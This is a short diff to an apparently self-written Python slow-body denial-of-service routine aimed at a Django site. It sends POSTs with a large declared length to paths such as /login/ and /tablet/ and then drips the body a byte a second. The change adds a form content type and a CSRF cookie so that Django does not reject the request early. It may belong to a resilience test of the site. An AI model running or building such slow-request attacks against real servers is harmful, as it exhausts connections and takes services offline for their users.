@@ -81,7 +81,9 @@ async def slow_body(attack: Attack, slot: int) -> None:
     """A body that comes one byte a second."""
     path = ("/login/", "/tablet/table/act/", "/tablet/", f"/floor/{attack.code}/import/")[slot % 4]
     _reader, writer = await attack.connect(slot)
-    writer.write(attack.head(f"POST {path}", "Content-Type: text/plain", "Content-Length: 50000"))
+    # With a cookie: without one Django refuses the form before it asks for the rest.
+    form = ("Content-Type: application/x-www-form-urlencoded", f"Cookie: csrftoken={TOKEN}")
+    writer.write(attack.head(f"POST {path}", *form, "Content-Length: 50000"))
     await drip(attack, writer)
 
 
